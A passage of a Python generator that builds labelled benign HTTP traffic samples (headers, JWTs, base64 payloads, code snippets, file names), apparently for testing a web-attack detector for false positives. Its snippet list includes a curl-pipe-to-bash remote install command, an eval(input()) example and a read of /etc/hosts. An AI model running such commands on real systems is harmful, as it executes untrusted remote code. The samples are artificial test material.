        ("_hjSessionUser_123456", b64('{"id":"' + rhex(16) + '","created":1764900000000,"existing":true}'), True),
        ("filters", "price<50;brand=Acme & Sons;sort=price asc", True),
        ("viewed_article", "why-union-pacific-dropped-the-caboose", True),
        ("shopping_note", "gift for Dad -- don't show price", True),
        ("saved_query", "status:open AND assignee:me", True),
        ("remember_email", "kim.o'neill@example.ie", True),
        ("geo", "IE|Cork|51.90|-8.47", False),
        ("consent_v2", "analytics=0,ads=0,functional=1", False),
        ("redirect_after_login", "/admin/reports?range=30d", True),
        ("layout", "grid", False),
        ("onboarding_done", "true", False),
        ("tl_sess", ralnum(24), False),
        ("intercom-id-abc123", ruuid(), False),
        ("experiments", '{"newNav":true,"darkMode":"auto"}', True),
    ]
    for i, (name, value, hard) in enumerate(rows):
        host, path = sites[i % len(sites)]
        others = base() if i % 3 else [("sid", rhex(24))]
        if name in dict(others):
            others = [("sid", rhex(24))]
        g.cookie(value, hard, host, path, name, others)


# ---------------------------------------------------------------- headers
def traceparent():
    return f"00-{rhex(32)}-{rhex(16)}-{RNG.choice(['01', '00'])}"


def benign_headers():
    g = B("benign_headers")
    sites = [
        ("shop.northwind-outfitters.com", "/"),
        ("api.tasklane.io", "/v2/tasks"),
        ("news.dailyharbor.news", "/world"),
        ("api.cartwheel.io", "/v1/products"),
        ("secure.harborbank.com", "/api/accounts"),
        ("cdn.mercato.app", "/static/app.js"),
    ]
    H = []
    for _ in range(5):
        H.append(("traceparent", traceparent(), False))
    H += [
        ("sec-ch-ua", '"Chromium";v="131", "Not_A Brand";v="24", "Google Chrome";v="131"', True),
        ("sec-ch-ua", '"Microsoft Edge";v="130", "Chromium";v="130", "Not?A_Brand";v="99"', True),
        ("sec-ch-ua-platform", '"Windows"', True),
        ("sec-ch-ua-mobile", "?0", False),
        ("sec-ch-ua-full-version-list", '"Chromium";v="131.0.6778.86", "Not_A Brand";v="24.0.0.0"', True),
        ("tracestate", "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE", True),
        ("baggage", "userId=alice,serverNode=DF%2028,isProduction=false", True),
        ("Accept-Language", "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5", True),
        ("Accept-Language", "en-US,en;q=0.9", False),
        ("Accept-Language", "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7", False),
        ("If-None-Match", 'W/"67ab43-1a2b", "5d8c72a5edda8"', True),
        ("If-None-Match", '"' + rhex(32) + '"', False),
        ("If-Match", '"xyzzy", "r2d2xxxx", "c3piozzzz"', True),
        ("If-Modified-Since", "Wed, 04 Dec 2026 07:28:00 GMT", False),
        ("X-Forwarded-For", "203.0.113.195, 70.41.3.18, 150.172.238.178", True),
        ("X-Forwarded-For", "198.51.100.7", False),
        ("Forwarded", "for=192.0.2.60;proto=http;by=203.0.113.43", True),
        ("Forwarded", 'for="[2001:db8:cafe::17]:4711";proto=https', True),
        ("X-Real-IP", "192.0.2.44", False),
        ("CF-Connecting-IP", "2001:db8::2c", True),
        ("CF-IPCountry", "IE", False),
        ("Range", "bytes=0-1023, 2048-4095", True),
        ("Range", "bytes=1048576-", False),
        ("Prefer", "return=representation; handling=lenient", False),
        ("Cache-Control", "no-cache, no-store, must-revalidate, max-age=0", False),
        ("Pragma", "no-cache", False),
        ("DNT", "1", False),
        ("Sec-GPC", "1", False),
        ("Upgrade-Insecure-Requests", "1", False),
        ("Sec-Fetch-Site", "same-origin", False),
        ("Sec-Fetch-Mode", "navigate", False),
        ("Sec-Fetch-Dest", "document", False),
        ("X-Requested-With", "XMLHttpRequest", False),
        ("Origin", "https://app.tasklane.io", False),
        ("Referer", "https://www.google.com/search?q=union+station+parking+%26+hours&oq=union+station", True),
        ("Referer", "https://shop.northwind-outfitters.com/search?q=select+wool+socks&page=2", True),
        ("Referer", "https://news.dailyharbor.news/", False),
        ("X-Amzn-Trace-Id", f"Root=1-{rhex(8)}-{rhex(24)};Parent={rhex(16)};Sampled=1", False),
        ("X-Request-ID", ruuid(), False),
        ("Idempotency-Key", ruuid(), False),
        ("X-Api-Key", "pk_live_" + ralnum(24), False),
        (
            "Authorization",
            f"AWS4-HMAC-SHA256 Credential=AKIAEXAMPLE{ralnum(8).upper()}/20261205/eu-west-1/s3/aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature={rhex(64)}",
            True,
        ),
        (
            "Authorization",
            'Digest username="kim", realm="api@harborbank.com", nonce="dcd98b7102dd2f0e8b11d0f600bfb0c093", uri="/api/accounts", qop=auth, nc=00000001, cnonce="0a4f113b", response="'
            + rhex(32)
            + '", opaque="5ccc069c403ebaf9f0171e9517f40e41"',
            True,
        ),
        ("Authorization", "Basic " + b64("api-client:" + ralnum(20)), False),
        (
            "Signature-Input",
            'sig1=("@method" "@authority" "@path" "content-digest");created=1764900000;keyid="test-key-rsa"',
            True,
        ),
        ("Signature", "sig1=:" + b64(rbytes(64)) + ":", False),
        ("Content-Digest", "sha-256=:" + b64(rbytes(32)) + ":", False),
        ("Accept", "application/vnd.github+json", False),
        (
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
            True,
        ),
        ("Accept-Encoding", "gzip, deflate, br, zstd", False),
        ("Via", "1.1 vegur, 1.1 varnish (Varnish/7.4)", False),
        ("X-Forwarded-Proto", "https", False),
        ("X-Forwarded-Host", "shop.northwind-outfitters.com", False),
        ("X-Forwarded-Prefix", "/api", False),
        ("X-GitHub-Event", "push", False),
        ("X-Hub-Signature-256", "sha256=" + rhex(64), False),
        ("X-Client-Version", "web/2026.12.04 (build 8812; commit " + rhex(7) + ")", True),
        ("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", True),
        ("User-Agent", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", True),
        ("User-Agent", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", True),
        ("User-Agent", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", True),
        ("User-Agent", "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)", True),
        ("User-Agent", "HarborBank/7.3.0 (com.harborbank.app; build:7301; iOS 18.1.1) Alamofire/5.9.1", True),
        ("User-Agent", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.18129; Pro)", True),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36",
            True,
        ),
        ("User-Agent", "okhttp/4.12.0", False),
        ("User-Agent", "python-requests/2.32.3", False),
        ("X-Device-Name", "Kim's iPad (2nd gen)", True),
        ("X-Timezone", "America/Argentina/Buenos_Aires", False),
        ("X-Search-Context", "select all; in:inbox -label:spam", True),
        ("Content-Language", "de-AT", False),
        ("Priority", "u=0, i", False),
        ("Early-Data", "1", False),
        ("Save-Data", "on", False),
        ("X-Correlation-ID", "order-8812/step-3", True),
        ("X-Feature-Flags", "new_checkout=true; dark_mode=auto", True),
        ("Link", "</styles/main.css>; rel=preload; as=style", True),
        ("X-Original-Host", "www.bluefinch.co.uk", False),
    ]
    for i, (name, value, hard) in enumerate(H):
        host, path = sites[i % len(sites)]
        if name in ("Range",):
            path = "/downloads/catalogue-2026.pdf"
        g.header(value, hard, host, path, name)
    g.header(
        traceparent(),
        False,
        "api.cartwheel.io",
        "/v1/orders",
        "traceparent",
        method="POST",
        body='{"items":[{"sku":"MUG-01","qty":1}]}',
        ctype="application/json",
        extra={"tracestate": "vendor=" + rhex(16)},
    )
    csp = {
        "csp-report": {
            "document-uri": "https://shop.northwind-outfitters.com/checkout",
            "referrer": "",
            "violated-directive": "script-src-elem",
            "effective-directive": "script-src-elem",
            "original-policy": "default-src 'self'; script-src 'self' https://js.stripe-example.com; report-uri /csp",
            "blocked-uri": "inline",
            "line-number": 41,
            "script-sample": "window.dataLayer = window.dataLayer || [];",
        }
    }
    g.header(
        "application/csp-report",
        True,
        "shop.northwind-outfitters.com",
        "/csp",
        "Content-Type",
        method="POST",
        body=json.dumps(csp),
    )


# ---------------------------------------------------------------- jwt
def make_jwt(claims, alg="RS256", kid=True):
    header = {"alg": alg, "typ": "JWT"}
    if kid:
        header["kid"] = rhex(16)
    sig_len = {"RS256": 256, "PS256": 256, "HS256": 32, "ES256": 64, "EdDSA": 64}[alg]
    return f"{b64url(compact(header))}.{b64url(compact(claims))}.{b64url(rbytes(sig_len))}"


def jwt_claims(kind):
    iat = 1764900000 + RNG.randrange(50000)
    sub = RNG.choice(["auth0|" + rhex(24), "user_" + rdigits(6), ruuid(), "google-oauth2|" + rdigits(21)])
    c = {
        "iss": RNG.choice(["https://auth.idgate.io/", "https://login.harborbank.com", "https://accounts.example.com"]),
        "sub": sub,
        "aud": RNG.choice(["shop-web", "https://api.tasklane.io", ["api", "web"]]),
        "iat": iat,
        "exp": iat + RNG.choice([300, 900, 3600, 86400]),
    }
    if kind >= 1:
        c["scope"] = RNG.choice(
            ["openid profile email offline_access", "read:orders write:orders", "accounts:read payments:write"]
        )
    if kind >= 2:
        c["email"] = remail()
        c["name"] = rname()
        c["https://tasklane.io/claims"] = {
            "roles": RNG.choice([["member"], ["admin", "billing"], ["viewer"]]),
            "org": "org_" + ralnum(10),
        }
    if kind >= 3:
        c["nonce"] = ralnum(22)
        c["amr"] = ["pwd", "mfa"]
        c["picture"] = "https://cdn.idgate.io/avatars/" + rhex(12) + ".png?s=96&d=identicon"
    return c


def benign_jwt():
    g = B("benign_jwt")
    apis = [
        ("api.tasklane.io", "/v2/me"),
        ("api.cartwheel.io", "/v1/orders"),
        ("api.fintrail.io", "/v2/accounts"),
        ("api.fitpulse.app", "/v2/workouts"),
        ("graphql.trellis.app", "/graphql"),
        ("api.ledgerly.app", "/v1/invoices"),
    ]
    for i in range(30):
        alg = RNG.choice(["RS256", "RS256", "ES256", "HS256", "PS256", "EdDSA"])
        kind = RNG.randrange(4)
        tok = make_jwt(jwt_claims(kind), alg, kid=alg != "HS256")
        host, path = apis[i % len(apis)]
        g.header("Bearer " + tok, False, host, path, "Authorization")
    for i in range(10):
        tok = make_jwt(jwt_claims(RNG.randrange(4)))
        host, path = apis[i % len(apis)]
        g.cookie(
            tok,
            False,
            host.replace("api.", "app."),
            "/",
            RNG.choice(["id_token", "access_token", "__Secure-auth"]),
            [("lang", "en")],
        )
    for i in range(8):
        tok = make_jwt(jwt_claims(RNG.randrange(3)))
        g.json(
            tok, False, "auth.idgate.io", "/oauth/token/introspect", {"token": PH, "token_type_hint": "access_token"}
        )
    for i in range(6):
        g.form(
            make_jwt(jwt_claims(1)),
            False,
            "auth.idgate.io",
            "/oauth/token",
            "assertion",
            [("grant_type", "urn:ietf:params:oauth:grant-type:jwt-bearer"), ("scope", "read:orders")],
        )
    for i in range(6):
        tok = make_jwt(jwt_claims(3))
        g.form(
            tok,
            False,
            "auth.idgate.io",
            "/oauth/token",
            "client_assertion",
            [
                ("grant_type", "client_credentials"),
                ("client_assertion_type", "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"),
            ],
        )
    for i in range(5):
        tok = make_jwt(jwt_claims(2))
        g.query(tok, True, "rt.tasklane.io", "/socket", "token", [("EIO", "4"), ("transport", "websocket")])
    for i in range(3):
        jwe_hdr = b64url(compact({"alg": "RSA-OAEP-256", "enc": "A256GCM", "kid": rhex(12)}))
        jwe = ".".join(
            [
                jwe_hdr,
                b64url(rbytes(256)),
                b64url(rbytes(12)),
                b64url(rbytes(RNG.randint(120, 300))),
                b64url(rbytes(16)),
            ]
        )
        g.header("Bearer " + jwe, True, "api.fintrail.io", "/v2/payments", "Authorization")
    g.json(
        make_jwt(jwt_claims(3)),
        False,
        "api.tasklane.io",
        "/v2/auth/refresh",
        {"refresh_token": PH, "client_id": "tl-web"},
    )
    g.json(make_jwt(jwt_claims(2)), False, "api.cartwheel.io", "/v1/auth/google", {"id_token": PH, "nonce": ralnum(16)})


# ---------------------------------------------------------------- base64
def fake_png(n):
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rbytes(n)


def fake_jpeg(n):
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + rbytes(n)


def fake_pdf():
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\nxref\n0 4\n"
        + rbytes(64)
        + b"\n%%EOF\n"
    )


SAML_OK = (
    '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" '
    'ID="_{id}" Version="2.0" IssueInstant="2026-12-05T10:12:01Z" Destination="https://sso.harborbank.com/saml/acs">'
    '<saml:Issuer>https://idp.example.com/metadata</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
    '<saml:Assertion ID="_{aid}" Version="2.0" IssueInstant="2026-12-05T10:12:01Z"><saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">{email}</saml:NameID></saml:Subject>'
    '<saml:AttributeStatement><saml:Attribute Name="groups"><saml:AttributeValue>finance</saml:AttributeValue></saml:Attribute></saml:AttributeStatement></saml:Assertion></samlp:Response>'
)


def benign_base64():
    g = B("benign_base64")
    for i in range(10):
        data = fake_jpeg(RNG.randint(200, 600)) if i % 2 else fake_png(RNG.randint(200, 600))
        ext = "jpg" if i % 2 else "png"
        g.json(
            b64(data),
            False,
            "api.helpdeskr.com",
            "/v1/tickets/" + rdigits(4) + "/attachments",
            {
                "filename": f"screenshot-{i + 1}.{ext}",
                "content_type": f"image/{'jpeg' if ext == 'jpg' else 'png'}",
                "content_base64": PH,
            },
        )
    for i in range(6):
        g.json(
            b64(fake_pdf()),
            False,
            "api.ledgerly.app",
            "/v1/documents",
            {"name": f"invoice-{rdigits(4)}.pdf", "data": PH},
        )
    for i in range(6):
        xml_doc = SAML_OK.format(id=rhex(20), aid=rhex(20), email=remail())
        g.form(
            b64(xml_doc),
            True,
            "sso.harborbank.com",
            "/saml/acs",
            "SAMLResponse",
            [("RelayState", RNG.choice(["/dashboard", "/accounts?tab=savings", "https://sso.harborbank.com/home"]))],
        )
    for i in range(6):
        g.json(
            b64(rbytes(RNG.randint(40, 160))),
            False,
            "iot.fleetops.net",
            "/v1/uplink",
            {"dev_eui": rhex(16), "port": RNG.randint(1, 20), "payload_b64": PH, "rssi": -RNG.randint(60, 120)},
        )
    for i in range(5):
        body = gzip.compress(
            compact({"events": [{"t": "click", "x": RNG.randint(0, 1200)} for _ in range(5)]}).encode(), mtime=0
        )
        g.json(b64(body), False, "rum.analytics-lite.io", "/v1/batch", {"encoding": "gzip+base64", "data": PH})
    for i in range(5):
        script = RNG.choice(
            [
                "#!/bin/bash\napt-get update -y\napt-get install -y nginx\nsystemctl enable --now nginx\n",
                "#cloud-config\npackages:\n  - docker.io\nruncmd:\n  - [ systemctl, start, docker ]\n",
                "#!/bin/sh\necho 'vm.swappiness=10' >> /etc/sysctl.conf && sysctl -p\n",
            ]
        )
        g.json(
            b64(script),
            True,
            "api.cloudnimbus.net",
            "/v1/instances",
            {"image": "ubuntu-24.04", "size": "s-2vcpu-4gb", "user_data": PH},
        )
    for i in range(5):
        g.header(
            "Basic "
            + b64(
                RNG.choice(["kim.lee", "api", "svc-reports", "admin@example.com"])
                + ":"
                + RNG.choice(PASSWORDS_HARD + PASSWORDS_PLAIN)
            ),
            False,
            "api.ledgerly.app",
            "/v1/invoices",
            "Authorization",
        )
    for i in range(6):
        tok = b64url(compact({"id": rdigits(8), "ts": 1764900000 + i}))
        g.query(tok, False, "api.cartwheel.io", "/v1/products", "cursor", [("limit", "50")])
    for i in range(4):
        eml = "Hello,\n\nPlease find the report attached.\n\nKind regards,\n" + rname() + "\n"
        g.json(
            b64(eml),
            False,
            "api.postbox-tools.com",
            "/v2/send",
            {
                "to": remail(),
                "subject": "Report",
                "attachments": [{"filename": "note.txt", "content": PH, "type": "text/plain"}],
            },
        )
    for i in range(4):
        manifest = f"apiVersion: v1\nkind: Secret\nmetadata:\n  name: db-creds\ntype: Opaque\ndata:\n  username: {b64('app')}\n  password: {b64(ralnum(16))}\n"
        g.json(
            b64(manifest), True, "deploy.buildhive.dev", "/api/v1/manifests", {"namespace": "shop", "manifest_b64": PH}
        )
    for i in range(4):
        cdj = compact(
            {
                "type": "webauthn.get",
                "challenge": b64url(rbytes(32)),
                "origin": "https://secure.harborbank.com",
                "crossOrigin": False,
            }
        )
        g.json(
            b64url(cdj),
            False,
            "secure.harborbank.com",
            "/api/webauthn/assert",
            {
                "id": b64url(rbytes(32)),
                "response": {
                    "clientDataJSON": PH,
                    "authenticatorData": b64url(rbytes(37)),
                    "signature": b64url(rbytes(70)),
                },
                "type": "public-key",
            },
        )
    for i in range(4):
        g.json(
            b64(rbytes(RNG.randint(60, 200))),
            False,
            "api.fintrail.io",
            "/v2/vault/secrets",
            {"name": "stripe_key", "ciphertext": PH, "iv": b64(rbytes(12)), "alg": "AES-256-GCM"},
            method="PUT",
        )
    for i in range(4):
        pgp = (
            "-----BEGIN PGP MESSAGE-----\n\n"
            + "\n".join(b64(rbytes(48)) for _ in range(4))
            + "\n="
            + b64(rbytes(3))
            + "\n-----END PGP MESSAGE-----\n"
        )
        g.json(pgp, False, "mail.postbox-tools.com", "/api/messages/encrypted", {"to": remail(), "armored": PH})
    for i in range(3):
        g.multipart(
            b64(fake_png(300)),
            False,
            "img.picturely.app",
            "/api/v1/images/base64",
            [part("album", "scans"), part("image_b64", PH)],
        )
    for i in range(3):
        g.cookie(
            b64(compact({"cart_id": ruuid(), "items": RNG.randint(1, 5)})),
            False,
            "shop.northwind-outfitters.com",
            "/cart",
            "cart_b64",
            [("sid", rhex(32))],
        )
    g.xml(
        b64(fake_pdf()),
        True,
        "soap.bankcore.io",
        "/ws/DocumentService",
        '<?xml version="1.0"?><uploadDocument><name>statement.pdf</name><content>{v}</content></uploadDocument>',
        ctype="text/xml",
    )
    g.xml(
        b64(fake_png(120)),
        False,
        "soap.bankcore.io",
        "/ws/DocumentService",
        '<?xml version="1.0"?><uploadDocument><name>cheque-front.png</name><content>{v}</content></uploadDocument>',
        ctype="text/xml",
    )


# ---------------------------------------------------------------- code snippets
CODE_SNIPPETS = [
    ("python", "import os\n\nfor root, dirs, files in os.walk('.'):\n    print(root, len(files))\n", True),
    (
        "python",
        "import subprocess\nresult = subprocess.run(['git', 'status', '--short'], capture_output=True, text=True)\nprint(result.stdout)\n",
        True,
    ),
    ("python", "df = pd.read_sql('SELECT id, total FROM orders WHERE created_at >= %s', conn, params=[start])\n", True),
    (
        "python",
        "@app.route('/users/<int:user_id>')\ndef show_user(user_id):\n    return render_template('user.html', user=User.query.get_or_404(user_id))\n",
        True,
    ),
    ("python", "with open('/etc/hosts') as f:\n    for line in f:\n        print(line.strip())\n", True),
    ("python", "def fib(n):\n    a, b = 0, 1\n    for _ in range(n):\n        a, b = b, a + b\n    return a\n", False),
    ("python", "from dataclasses import dataclass\n\n@dataclass\nclass Point:\n    x: float\n    y: float\n", False),
    (
        "python",
        'cursor.execute("UPDATE users SET last_login = NOW() WHERE id = %s", (user_id,))\nconn.commit()\n',
        True,
    ),
    ("python", "value = eval(input('Enter a number: '))  # don't do this, use int() instead\n", True),
    (
        "javascript",
        "document.querySelector('#save').addEventListener('click', () => {\n  alert('Saved!');\n});\n",
        True,
    ),
    ("javascript", "const res = await fetch(`/api/items?page=${page}`);\nconst data = await res.json();\n", True),
    ("javascript", "app.get('/health', (req, res) => res.json({ ok: true }));\n", False),
    (
        "javascript",
        "const { exec } = require('child_process');\nexec('npm run build', (err, stdout) => console.log(stdout));\n",
        True,
    ),
    ("javascript", "el.innerHTML = DOMPurify.sanitize(html);\n", True),
    ("javascript", "const total = items.reduce((sum, i) => sum + i.price * i.qty, 0);\n", False),
    (
        "javascript",
        "window.onload = function () {\n  document.getElementById('year').textContent = new Date().getFullYear();\n};\n",
        True,
    ),
    (
        "typescript",
        "export function isEmail(s: string): boolean {\n  return /^[^@\\s]+@[^@\\s]+\\.[^@\\s]+$/.test(s);\n}\n",
        False,
    ),
    (
        "sql",
        "SELECT u.id, u.email, COUNT(o.id) AS orders\nFROM users u\nLEFT JOIN orders o ON o.user_id = u.id\nGROUP BY u.id, u.email\nORDER BY orders DESC\nLIMIT 10;\n",
        True,
    ),
    ("sql", "UPDATE inventory SET qty = qty - 1 WHERE sku = 'MUG-BLUE' AND qty > 0;\n", True),
    ("sql", "CREATE INDEX CONCURRENTLY idx_orders_created ON orders (created_at);\n", False),
    ("sql", "SELECT name FROM products\nUNION\nSELECT name FROM archived_products\nORDER BY name;\n", True),
    ("sql", "DROP TABLE IF EXISTS tmp_import;\nCREATE TABLE tmp_import (LIKE customers INCLUDING ALL);\n", True),
    ("sql", "INSERT INTO audit_log (actor, action, note) VALUES ('system', 'rotate', 'monthly key rotation');\n", True),
    (
        "sql",
        "SELECT * FROM events WHERE payload->>'type' = 'signup' AND created_at > now() - interval '7 days';\n",
        True,
    ),
    ("bash", '#!/usr/bin/env bash\nset -euo pipefail\nfor f in *.log; do gzip "$f"; done\n', True),
    ("bash", "curl -sSL https://get.example-tool.dev/install.sh | bash\n", True),
    ("bash", "find . -name '*.tmp' -mtime +7 -delete\n", True),
    ("bash", "docker run --rm -p 8080:80 -v $(pwd)/site:/usr/share/nginx/html nginx:alpine\n", True),
    ("bash", "tar -czf backup-$(date +%F).tar.gz ~/projects\n", True),
    ("bash", "ls -la /var/log | grep nginx\n", True),
    ("bash", 'export PATH="$HOME/.local/bin:$PATH"\n', True),
    (
        "php",
        "<?php\n$name = htmlspecialchars($_GET['name'] ?? 'guest', ENT_QUOTES);\necho \"Hello, {$name}!\";\n",
        True,
    ),
    ("php", "<?php foreach ($posts as $post): ?>\n  <h2><?= e($post->title) ?></h2>\n<?php endforeach; ?>\n", True),
    ("php", "$stmt = $pdo->prepare('SELECT * FROM users WHERE email = ?');\n$stmt->execute([$email]);\n", True),
    (
        "go",
        'func main() {\n\thttp.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {\n\t\tfmt.Fprintf(w, "hello %s", r.URL.Path[1:])\n\t})\n\tlog.Fatal(http.ListenAndServe(":8080", nil))\n}\n',
        False,
    ),
    ("go", 'cmd := exec.Command("ls", "-l")\nout, err := cmd.Output()\nif err != nil {\n\tlog.Fatal(err)\n}\n', True),
    ("go", 'type User struct {\n\tID    int    `json:"id"`\n\tEmail string `json:"email"`\n}\n', False),
    (
        "rust",
        'fn main() {\n    let v: Vec<i32> = (1..=10).filter(|x| x % 2 == 0).collect();\n    println!("{:?}", v);\n}\n',
        False,
    ),
    ("rust", 'let output = std::process::Command::new("echo").arg("hi").output()?;\n', True),
    ("rust", "#[derive(Debug, Serialize, Deserialize)]\nstruct Config { port: u16, host: String }\n", False),
    (
        "java",
        'try (var stmt = conn.prepareStatement("SELECT * FROM users WHERE id = ?")) {\n    stmt.setLong(1, id);\n    var rs = stmt.executeQuery();\n}\n',
        True,
    ),
    ("java", "int cores = Runtime.getRuntime().availableProcessors();\n", True),
    ("java", "List<String> names = users.stream().map(User::getName).sorted().toList();\n", False),
    ("ruby", "User.where(active: true).order(created_at: :desc).limit(20)\n", False),
    ("ruby", "system('bundle exec rake db:migrate') or abort('migration failed')\n", True),
    ("jinja", "{% for item in items %}\n  <li>{{ item.name|e }}</li>\n{% endfor %}\n", True),
    ("vue", '<div v-if="user">Hello, {{ user.name }}!</div>\n', True),
    ("yaml", "steps:\n  - uses: actions/checkout@v4\n  - run: npm ci\n  - run: npm test -- --coverage\n", False),
    (
        "dockerfile",
        'FROM python:3.12-slim\nRUN pip install --no-cache-dir -r requirements.txt\nCMD ["gunicorn", "app:app"]\n',
        False,
    ),
    ("css", ".btn:hover { color: #fff; background: linear-gradient(90deg, #06f, #0cf); }\n", False),
    (
        "xml",
        "<dependency>\n  <groupId>org.apache.logging.log4j</groupId>\n  <artifactId>log4j-core</artifactId>\n  <version>2.24.1</version>\n</dependency>\n",
        True,
    ),
    ("properties", "appender.console.layout.pattern = %d{ISO8601} [%t] %-5level %logger{36} - %msg%n\n", True),
    ("regex", "^[a-z0-9!#$%&'*+/=?^_`{|}~-]+(?:\\.[a-z0-9!#$%&'*+/=?^_`{|}~-]+)*@example\\.com$", True),
    (
        "powershell",
        "Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item\n",
        True,
    ),
    (
        "html",
        '<form method="post" action="/login">\n  <input name="email" type="email" required>\n  <button>Sign in</button>\n</form>\n',
        True,
    ),
    ("kotlin", "val names = users.filter { it.active }.map { it.name }\n", False),
    ("swift", 'let url = URL(string: "https://api.example.com/v1/items")!\n', False),
    ("c", '#include <stdio.h>\nint main(void) { printf("%d\\n", 42); return 0; }\n', False),
    ("lua", "local t = {}\nfor i = 1, 10 do t[#t + 1] = i * i end\n", False),
    ("makefile", "test:\n\tpytest -q\n\nlint:\n\truff check .\n", False),
    ("nginx", "location /api/ {\n    proxy_pass http://127.0.0.1:8000/;\n    proxy_set_header Host $host;\n}\n", True),
    ("terraform", 'resource "aws_s3_bucket" "logs" {\n  bucket = "acme-logs-${var.env}"\n}\n', True),
    ("graphql", "type Query {\n  orders(first: Int = 10, after: String): OrderConnection!\n}\n", False),
    ("ini", "[database]\nhost = db.internal\nport = 5432\nname = shop\n", False),
    ("csharp", "var users = await db.Users.Where(u => u.IsActive).OrderBy(u => u.Name).ToListAsync();\n", False),
    ("perl", "my @sorted = sort { $a <=> $b } @numbers;\nprint join(', ', @sorted), \"\\n\";\n", True),
    ("r", "df <- read.csv('sales.csv')\nsummary(lm(revenue ~ ads, data = df))\n", False),
    ("elixir", "Enum.map([1, 2, 3], fn x -> x * 2 end)\n", False),
]


def benign_code():
    g = B("benign_code")
    for i, (lang, code, hard) in enumerate(CODE_SNIPPETS):
        k = i % 6
        if k == 0:
            g.json(
                code,
                hard,
                "api.gistbin.dev",
                "/v1/gists",
                {"description": f"{lang} snippet", "public": True, "files": {f"snippet.{lang[:3]}": {"content": PH}}},
            )
        elif k == 1:
            g.json(
                code,
                hard,
                "notebook.datagrove.io",
                "/api/contents/work/analysis.ipynb/cells/" + rdigits(2),
                {"cell_type": "code", "source": PH, "metadata": {"collapsed": False}},
                method="PATCH",
            )
        elif k == 2:
            g.json(
                "Why does this not work?\n\n" + code + "\nThanks in advance!",
                hard,
                "stackhelp.devforum.io",
                "/api/questions",
                {"title": f"Question about {lang}", "body": PH, "tags": [lang, "beginner"]},
            )
        elif k == 3:
            g.form(
                code,
                hard,
                "paste.codeshare.dev",
                "/new",
                "content",
                [("syntax", lang), ("expiry", "1w"), ("title", "")],
            )
        elif k == 4:
            fname = f"example.{ {'python': 'py', 'javascript': 'js', 'bash': 'sh', 'sql': 'sql', 'php': 'php', 'go': 'go', 'rust': 'rs', 'java': 'java', 'ruby': 'rb'}.get(lang, 'txt') }"
            g.multipart(
                code,
                hard,
                "api.gistbin.dev",
                "/v1/upload",
                [part("description", f"{lang} example"), part("file", PH, fname, "text/plain")],
            )
        else:
            g.json(
                code,
                hard,
                "api.chatops.dev",
                "/v1/messages",
                {"channel": "#dev", "text": PH, "format": "code", "language": lang},
            )
    # code review comments and diffs
    diffs = [
        (
            'diff --git a/app.py b/app.py\n--- a/app.py\n+++ b/app.py\n@@ -10,7 +10,7 @@\n-    q = f"SELECT * FROM users WHERE id = {uid}"\n+    q = "SELECT * FROM users WHERE id = %s"\n',
            True,
        ),
        (
            'diff --git a/web/index.html b/web/index.html\n@@ -3,3 +3,4 @@\n <head>\n+  <script src="/static/app.js" defer></script>\n </head>\n',
            True,
        ),
        ('@@ -1,4 +1,4 @@\n-version = "1.4.2"\n+version = "1.4.3"\n', False),
    ]
    for d, hard in diffs:
        g.json(
            d,
            hard,
            "code.gitforge.dev",
            "/api/v1/repos/shop/web/pulls/412/comments",
            {"body": "Looks good", "diff_hunk": PH, "line": 12},
        )
    for _ in range(6):
        n = RNG.randint(2, 40)
        g.json(
            f"for i in range({n}):\n    print(i * i)\n",
            False,
            "api.gistbin.dev",
            "/v1/run",
            {"language": "python", "code": PH, "timeout_s": 5},
        )


# ---------------------------------------------------------------- files
FILE_NAMES = [
    ("Résumé – final (2).pdf", True),
    ("O'Neil_invoice#42.pdf", True),
    ("report;v2.xlsx", True),
    ("photo 2026-01-05 at 10.32.11.jpeg", False),
    ("Q3 results & forecast.xlsx", True),
    ("notes (copy) [1].md", True),
    ("100% done.txt", True),
    ("$HOME setup guide.md", True),
    ("v1.2..v1.3 diff.patch", True),
    ("select_all.png", True),
    ("drop-shipping-rates.csv", True),
    ("union-agreement-2026.pdf", True),
    ("data..backup.csv", True),
    ("~$budget.xlsx", True),
    ("IMG_4821.HEIC", False),
    ("scan0001.pdf", False),
    ("holiday-photos.zip", False),
    ("contract_signed.pdf", False),
    ("logo@2x.png", False),
    ("readme.txt", False),
    ("CV - Ana García.docx", False),
    ("株式会社_見積書.pdf", False),
    ("Kim's notes.txt", True),
    ("budget=final.ods", True),
    ("a+b=c.tex", True),
    ("meeting-notes-2026-12-04.md", False),
    ("floor plan #3.dwg", True),
    ("script.sh", True),
    ("exec-summary.pptx", True),
